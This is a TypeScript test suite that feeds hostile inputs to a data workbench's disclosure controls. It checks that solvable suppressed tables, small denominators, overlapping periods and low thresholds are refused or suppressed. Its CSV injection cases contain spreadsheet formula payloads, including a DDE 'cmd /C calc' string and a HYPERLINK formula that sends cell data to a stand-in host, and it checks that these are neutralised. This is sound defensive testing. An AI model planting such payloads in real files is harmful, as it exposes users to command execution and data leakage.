/**
 * Hostile-input corpus for disclosure from partner data (issue 11): each case is an input that tries to make the
 * workbench publish something a reader could use to recover a small count (a solvable table, a small denominator, two
 * nested periods, a low threshold, a formula cell for a spreadsheet, a partner table the audit does not know), with
 * the outcome it must have. One test per case; inputs are generated into a temporary folder (never committed).
 */
import {mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from "node:fs";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {csvParse} from "d3-dsv";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {neutraliseCsvRow} from "../../components/figure/csv-injection.ts";
import {tableCsv} from "../../components/figure/csv.ts";
import {ConfigError, parseConfig} from "../../loaders/config/load-config.ts";
import {loadPartnerData, type PartnerLoadResult} from "../../loaders/partners/load.ts";
import {auditDist} from "../../scripts/lib/disclosure-audit.ts";
import {checkPartnerIntervals, emptyPartnerStats} from "../../scripts/lib/partner-audit.ts";
import plymouth from "../../sna.config.ts";
import {manifestFor} from "../helpers/partner-corpus.ts";

const THRESHOLD = 5;
let dir: string;
beforeAll(() => void (dir = mkdtempSync(join(tmpdir(), "hostile-disclosure-"))));
afterAll(() => rmSync(dir, {recursive: true, force: true}));

type Files = Record<string, {dataset: string; csv: string; manifest?: Record<string, unknown>}>;

/** Writes the files with their manifests into a fresh drop folder and loads it as a build does. */
async function load(name: string, files: Files): Promise<PartnerLoadResult & {out: string}> {
  const drop = join(dir, name, "drop");
  mkdirSync(drop, {recursive: true});
  for (const [file, f] of Object.entries(files)) {
    writeFileSync(join(drop, file), f.csv);
    writeFileSync(join(drop, `${file}.manifest.json`), JSON.stringify(manifestFor(f.dataset, {received: "2026-01-20", ...f.manifest})));
  }
  const out = join(dir, name, "out");
  return {...(await loadPartnerData(drop, out, {smallNumberThreshold: THRESHOLD}, {log: () => undefined})), out};
}

const csv = (header: string[], rows: (string | number)[][]) => `${[header, ...rows].map((r) => r.map((c) => (/[",\n]/.test(String(c)) ? `"${String(c).replaceAll('"', '""')}"` : c)).join(",")).join("\n")}\n`;
const AMB = ["Month", "Call type", "Age band", "Sex", "Count"];
const SCHOOL = ["Academic year", "Phase", "Measure", "Count", "Pupils"];
const SURVEY = ["Period", "Question", "Response", "Respondents"];
const AE = ["Attendance date", "Attendance time", "Location of incident", "Weapon", "Age band", "Sex"];

/** Six A&E attendances in each month of the list. */
const aeMonths = (months: string[]) => csv(AE, months.flatMap((m) => Array.from({length: 6}, (_, i) => [`${m}-${String(3 + i * 4).padStart(2, "0")}`, "21:30", ["Street", "Home", "Pub"][i % 3]!, "Body", ["18-24", "25-34"][i % 2]!, ["Male", "Female"][i % 2]!])));
const months = (from: number, to: number, year = 2025) => Array.from({length: to - from + 1}, (_, i) => `${year}-${String(from + i).padStart(2, "0")}`);

/** What a loader run published that a reader could use to recover a small count. */
function disclosure(result: PartnerLoadResult) {
  const stats = emptyPartnerStats();
  const derivable: string[] = [];
  const rows = result.records as unknown as Record<string, unknown>[];
  checkPartnerIntervals(Object.keys(rows[0] ?? {}), rows, THRESHOLD, stats, (_kind, where) => derivable.push(where));
  const small = (v: number | null) => v !== null && v > 0 && v < THRESHOLD;
  return {
    refused: result.reports.filter((r) => r.status === "refused").map((r) => r.file),
    smallShown: result.records.filter((r) => !r.suppressed && (small(r.count) || small(r.denominator) || (r.denominator !== null && r.count !== null && small(r.denominator - r.count)))).length,
    derivable: derivable.length,
    reasonPublished: result.records.some((r) => "suppression" in r || "reason" in r),
    anySuppressed: result.records.some((r) => r.suppressed)
  };
}
const SAFE = {refused: [], smallShown: 0, derivable: 0, reasonPublished: false, anySuppressed: true};

function configError(raw: unknown): string {
  try {
    parseConfig(raw, "sna.config.ts");
    return "accepted";
  } catch (e) {
    return e instanceof ConfigError ? e.message : `unexpected ${String(e)}`;
  }
}

/** A fake built site with one planted file, audited: the finding kinds, with file and column. */
function audit(name: string, file: string, text: string): string[] {
  const site = join(dir, name, "site");
  mkdirSync(join(site, "_file/data"), {recursive: true});
  writeFileSync(join(site, "_file/data", file), text);
  return auditDist(site, {threshold: THRESHOLD}).findings.map((f) => `${f.kind} ${f.where.replace(/^row \d+, /, "")}`);
}
const RECORD = "source,dataset,table,split,row,col,total,count,suppressed,denominator,rate";

interface HostileCase {
  name: string;
  /** What the hostile input is. */
  what: string;
  /** The outcome it must have. */
  expected: unknown;
  outcome: () => Promise<unknown> | unknown;
}

const CASES: HostileCase[] = [
  // --- Tables whose suppression a reader could solve
  {
    name: "two small cells bound by a published total",
    what: "first-time entrants 1 and 1 beside 40 with the total: secondary suppression alone leaves both in 0–2",
    expected: SAFE,
    outcome: async () => disclosure(await load("two-small", {"fte.csv": {dataset: "youth-justice", csv: csv(["Period", "Measure", "Count"], [["2021/22", "First-time entrants", 1], ["2022/23", "First-time entrants", 1], ["2023/24", "First-time entrants", 40]])}}))
  },
  {
    name: "a cell pinned exactly although its row and column each have two suppressed cells",
    what: "victims by age × sex 15 0 0 / 22 19 3 / 1 2 0: secondary suppression alone leaves the 2 solvable from the margins",
    expected: SAFE,
    outcome: async () => {
      const v = [[15, 0, 0], [22, 19, 3], [1, 2, 0]];
      const ages = ["0-17", "18-24", "25-34"];
      const sexes = ["Male", "Female", "Not known"];
      const rows = v.flatMap((line, r) => line.map((n, c) => ["2025", "Victim", "Robbery", ages[r]!, sexes[c]!, n]));
      return disclosure(await load("pinned", {"victims.csv": {dataset: "police-victims-suspects", csv: csv(["Period", "Role", "Offence group", "Age band", "Sex", "Count"], rows)}}));
    }
  },
  {
    name: "partner-suppressed '<5' cells beside totals",
    what: "an extract that already suppressed some cells as <5, next to small and large counts",
    expected: SAFE,
    outcome: async () => disclosure(await load("partner-lt5", {"amb.csv": {dataset: "ambulance-assault", csv: csv(AMB, [["2025-01", "Assault", "18-24", "Male", "<5"], ["2025-01", "Stab", "18-24", "Male", 7], ["2025-02", "Assault", "18-24", "Male", 3], ["2025-02", "Stab", "18-24", "Male", 30], ["2025-03", "Assault", "25-34", "Female", 22]])}}))
  },
  {
    name: "the published suppression reason",
    what: "records must not say which cells are primary (small) and which secondary",
    expected: {columns: ["suppressed"], reasonColumn: false},
    outcome: async () => {
      const r = await load("reason", {"amb.csv": {dataset: "ambulance-assault", csv: csv(AMB, [["2025-01", "Assault", "18-24", "Male", 2], ["2025-02", "Assault", "18-24", "Male", 40], ["2025-03", "Assault", "18-24", "Male", 9]])}});
      const header = readFileSync(join(r.out, "partner-records.csv"), "utf-8").split("\n")[0]!.split(",");
      return {columns: header.filter((h) => /suppress|reason/.test(h)), reasonColumn: header.includes("suppression") || header.includes("reason")};
    }
  },
  // --- Denominators
  {
    name: "0 of 3 pupils",
    what: "a phase with 3 pupils on roll and no exclusions: the rate (0%) describes all three",
    expected: {count: null, denominator: null, rate: null, suppressed: true},
    outcome: async () => {
      const r = await load("zero-of-three", {"schools.csv": {dataset: "school-exclusions", csv: csv(SCHOOL, [["2024/25", "Primary", "Suspensions", 40, 9000], ["2024/25", "Secondary", "Suspensions", 300, 8000], ["2024/25", "Special", "Suspensions", 0, 3], ["2024/25", "Alternative provision", "Suspensions", 25, 60]])}});
      const cell = r.records.find((x) => x.table === "suspensions" && x.col === "Special")!;
      return {count: cell.count, denominator: cell.denominator, rate: cell.rate, suppressed: cell.suppressed};
    }
  },
  {
    name: "6 of 7 pupils",
    what: "persistent absence 6 of 7: the one pupil not absent is disclosed by the complement",
    expected: {special: {count: null, denominator: null, rate: null}, safe: SAFE},
    outcome: async () => {
      const r = await load("six-of-seven", {"schools.csv": {dataset: "school-exclusions", csv: csv(SCHOOL, [["2024/25", "Primary", "Persistent absence", 900, 9000], ["2024/25", "Secondary", "Persistent absence", 1600, 8000], ["2024/25", "Special", "Persistent absence", 6, 7], ["2024/25", "Alternative provision", "Persistent absence", 30, 60]])}});
      const cell = r.records.find((x) => x.table === "persistent-absence" && x.col === "Special")!;
      return {special: {count: cell.count, denominator: cell.denominator, rate: cell.rate}, safe: disclosure(r)};
    }
  },
  {
    name: "40 of 43 respondents",
    what: "survey answers where the 3 who did not say Yes are split into small cells: the Yes share would give them away",
    expected: {yes: {count: null, rate: null}, safe: SAFE},
    outcome: async () => {
      const r = await load("forty-of-43", {"survey.csv": {dataset: "community-survey", csv: csv(SURVEY, [["2025", "Do you feel safe?", "Yes", 40], ["2025", "Do you feel safe?", "No", 2], ["2025", "Do you feel safe?", "Not sure", 1]])}});
      const yes = r.records.find((x) => x.row === "Yes")!;
      return {yes: {count: yes.count, rate: yes.rate}, safe: disclosure(r)};
    }
  },
  {
    name: "survey shares through the audit",
    what: "answers suppressed beside shares of respondents: suppressed rows carry no respondents, and the audit raises no false alarm",
    expected: {findings: [], suppressedWithRespondents: 0},
    outcome: async () => {
      const q = "Do you feel safe?";
      const r = await load("survey-audit", {"survey.csv": {dataset: "community-survey", csv: csv(SURVEY, [["2024", q, "Yes", 40], ["2024", q, "No", 2], ["2024", q, "Not sure", 1], ["2024", q, "Sometimes", 30], ["2025", q, "Yes", 35], ["2025", q, "No", 20], ["2025", q, "Not sure", 9], ["2025", q, "Sometimes", 3]])}});
      return {findings: audit("survey-audit", "partner-records.77aa88bb.csv", readFileSync(join(r.out, "partner-records.csv"), "utf-8")), suppressedWithRespondents: r.records.filter((x) => x.suppressed && x.denominator !== null).length};
    }
  },
  // --- Overlapping periods
  {
    name: "nested months (January–June inside January–July)",
    what: "two A&E extracts whose tables could be subtracted to give July alone",
    expected: {refused: ["ae-2-jan-jul.csv"], namesBoth: true, saysFix: true, recordsFromRefused: 0},
    outcome: async () => {
      const r = await load("nested", {"ae-1-jan-jun.csv": {dataset: "ae-assault", csv: aeMonths(months(1, 6))}, "ae-2-jan-jul.csv": {dataset: "ae-assault", csv: aeMonths(months(1, 7))}});
      const refusal = r.reports.find((x) => x.status === "refused")?.refusal?.message ?? "";
      return {refused: disclosure(r).refused, namesBoth: refusal.startsWith("ae-2-jan-jul.csv") && refusal.includes("ae-1-jan-jun.csv"), saysFix: /Keep one extract per period/.test(refusal), recordsFromRefused: r.records.filter((x) => x.source === "ae-2-jan-jul.csv").length};
    }
  },
  {
    name: "overlapping financial years",
    what: "youth justice 2023/24–2024/25 and a second file for 2024/25",
    expected: {refused: ["yj-b.csv"], status: ["accepted", "refused"]},
    outcome: async () => {
      const header = ["Period", "Measure", "Count"];
      const r = await load("fy", {"yj-a.csv": {dataset: "youth-justice", csv: csv(header, [["2023/24", "First-time entrants", 30], ["2024/25", "First-time entrants", 28]])}, "yj-b.csv": {dataset: "youth-justice", csv: csv(header, [["2024/25", "First-time entrants", 27]])}});
      return {refused: disclosure(r).refused, status: r.reports.map((x) => x.status)};
    }
  },
  {
    name: "a month inside a year",
    what: "ambulance calls for 2025 and again for 2025-03 alone, from a period column written as a year",
    expected: {refused: ["calls-b.csv"]},
    outcome: async () => {
      const r = await load("year-month", {"calls-a.csv": {dataset: "ambulance-assault", csv: csv(AMB, months(1, 12).map((m) => [m, "Assault", "18-24", "Male", 20]))}, "calls-b.csv": {dataset: "ambulance-assault", csv: csv(AMB, [["2025-03", "Assault", "18-24", "Male", 19]])}});
      return {refused: disclosure(r).refused};
    }
  },
  {
    name: "adjacent periods (control)",
    what: "January–June and July–December of one dataset: nothing to subtract, both are used",
    expected: {refused: [], sources: ["ae-h1.csv", "ae-h2.csv"]},
    outcome: async () => {
      const r = await load("adjacent", {"ae-h1.csv": {dataset: "ae-assault", csv: aeMonths(months(1, 6))}, "ae-h2.csv": {dataset: "ae-assault", csv: aeMonths(months(7, 12))}});
      return {refused: disclosure(r).refused, sources: [...new Set(r.records.map((x) => x.source))].sort()};
    }
  },
  // --- Threshold floor
  ...[0, 1, 2].map((t): HostileCase => ({
    name: `threshold ${t}`,
    what: `smallNumberThreshold: ${t} would publish counts that identify people`,
    expected: {refused: true, namesField: true, saysFix: true},
    outcome: () => {
      const msg = configError({...plymouth, smallNumberThreshold: t});
      return {refused: msg !== "accepted", namesField: msg.includes("sna.config.ts: smallNumberThreshold:"), saysFix: msg.includes("use 5")};
    }
  })),
  {
    name: "threshold 3 without an override",
    what: "below NHS and ONS practice with no recorded reason",
    expected: {refused: true, saysOverride: true},
    outcome: () => {
      const msg = configError({...plymouth, smallNumberThreshold: 3});
      return {refused: msg !== "accepted", saysOverride: msg.includes("smallNumberThresholdOverride: {reason:")};
    }
  },
  {
    name: "threshold 4 with an override",
    what: "a documented override with its reason (control: accepted)",
    expected: "accepted",
    outcome: () => configError({...plymouth, smallNumberThreshold: 4, smallNumberThresholdOverride: {reason: "Agreed by the information governance board, minute 14/2026"}})
  },
  // --- CSV injection
  {
    name: "formula cells in a partner extract and its manifest",
    what: "=HYPERLINK(...) as a survey answer, +cmd as another, @SUM(...) as the question, a formula as the owner",
    expected: {raw: [], neutralised: ["'+cmd|' /C calc'!A0", "'=HYPERLINK(\"https://x.example/?q=\"&A1,\"Open\")", "'@SUM(1+1)*cmd|' /C calc'!A0", "'=2+5+cmd|' /C calc'!A0"].sort()},
    outcome: async () => {
      const r = await load("formulas", {
        "survey.csv": {
          dataset: "community-survey",
          csv: csv(SURVEY, [["2025", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("https://x.example/?q="&A1,"Open")', 20], ["2025", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", 30]]),
          manifest: {owner: "=2+5+cmd|' /C calc'!A0"}
        }
      });
      const cells = csvParse(readFileSync(join(r.out, "partner-records.csv"), "utf-8")).flatMap((row) => Object.values(row) as string[]);
      return {raw: [...new Set(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-[^0-9.]/.test(c)))], neutralised: [...new Set(cells.filter((c) => /^'[=+\-@]/.test(c)))].sort()};
    }
  },
  {
    name: "a figure's CSV download with formula text and negative numbers",
    what: "labels =1+1, -cmd, @A1 and a tab-led formula; values -3.2 and +4 that must stay numbers",
    expected: "Label,Value,Note\r\n'=1+1,-3.2,\r\n'-cmd,4,\r\n'@A1,0,\r\n'\t=1,,Value: suppressed\r\n",
    outcome: () =>
      tableCsv({
        rows: [{label: "=1+1", value: -3.2}, {label: "-cmd", value: 4}, {label: "@A1", value: 0}, {label: "\t=1", value: null}],
        columns: [{key: "label", label: "Label"}, {key: "value", label: "Value", nullLabel: "suppressed"}]
      })
  },
  {
    name: "a query result downloaded from Explore",
    what: "text that starts with = + - @ and real numbers written as text",
    expected: [{a: "'=cmd", b: -1, c: "-3.2", d: "'+x", e: "'@y", f: "+4", g: "1e-3"}],
    outcome: () => [neutraliseCsvRow({a: "=cmd", b: -1, c: "-3.2", d: "+x", e: "@y", f: "+4", g: "1e-3"})]
  },
  // --- The audit
  {
    name: "a small denominator planted in a built partner table",
    what: "an unsuppressed row with 3 pupils on roll",
    expected: ["small-count column denominator", "small-complement column denominator"],
    outcome: () => audit("den", "partner-school.1a2b3c4d.csv", `${RECORD}\ns,school-exclusions,suspensions,,2024/25,Special,false,0,false,3,0\n`)
  },
  {
    name: "a small complement planted in a built partner table",
    what: "6 of 7 shown with its rate",
    expected: ["small-complement column denominator"],
    outcome: () => audit("complement", "partner-school.1a2b3c4d.csv", `${RECORD}\ns,school-exclusions,persistent-absence,,2024/25,Special,false,6,false,7,85.71\n`)
  },
  {
    name: "a table solvable by subtraction planted in a built partner table",
    what: "a one-way table with one suppressed cell and its total: 30 − 7 − 20",
    expected: ["derivable-suppressed-cell column count"],
    outcome: () => audit("solvable", "partner-records.1a2b3c4d.csv", `${RECORD}\ns,ae,by-month,,a,,false,,true,,\ns,ae,by-month,,b,,false,7,false,,\ns,ae,by-month,,c,,false,20,false,,\ns,ae,by-month,,Total,,true,30,false,,\n`)
  },
  {
    name: "a bridge cell planted in a built partner table",
    what: "two-way table where every line has two suppressed cells but one is pinned",
    expected: ["derivable-suppressed-cell column count"],
    outcome: () => {
      const v = [[2, 9, 10, 11], [8, 3, 4, 12], [13, 14, 1, 7], [15, 16, 9, 2]];
      const hide = new Set(["0,0", "0,1", "1,0", "1,1", "1,2", "2,2", "2,3", "3,2", "3,3"]);
      const line = (r: string, c: string, total: boolean, n: number | null) => `s,police,t,,${r},${c},${total},${n ?? ""},${n === null},,`;
      const rows = v.flatMap((l, r) => [...l.map((n, c) => line(`r${r}`, `c${c}`, false, hide.has(`${r},${c}`) ? null : n)), line(`r${r}`, "Total", true, l.reduce((a, b) => a + b, 0))]);
      const cols = v[0]!.map((_, c) => line("Total", `c${c}`, true, v.reduce((a, l) => a + l[c]!, 0)));
      const found = audit("bridge-audit", "partner-records.9f8e7d6c.csv", [RECORD, ...rows, ...cols, line("Total", "Total", true, v.flat().reduce((a, b) => a + b, 0))].join("\n"));
      return [...new Set(found)];
    }
  },
  {
    name: "counts in a partners- file",
    what: "a count column in partners-services.csv (the second partner prefix) with no suppressed flag",
    expected: ["unreadable-partner-table column suppressed"],
    outcome: () => audit("partners-prefix", "partners-services.11aa22bb.csv", "service_name,count\nMentoring,2\n")
  },
  {
    name: "small counts in open statistics (control)",
    what: "police.uk counts of 1–4 in a non-partner table keep their values",
    expected: [],
    outcome: () => audit("open", "area-monthly.5e6f7a8b.csv", "month,crime_type,count\n2025-01,Robbery,2\n2025-02,Robbery,1\n")
  }
];

describe("hostile partner inputs cannot disclose a small count", () => {
  it("holds at least 15 cases", () => expect(CASES.length).toBeGreaterThanOrEqual(15));
  for (const c of CASES) {
    it(`${c.name}: ${c.what}`, async () => {
      expect(await c.outcome()).toEqual(c.expected);
    }, 60_000);
  }
});
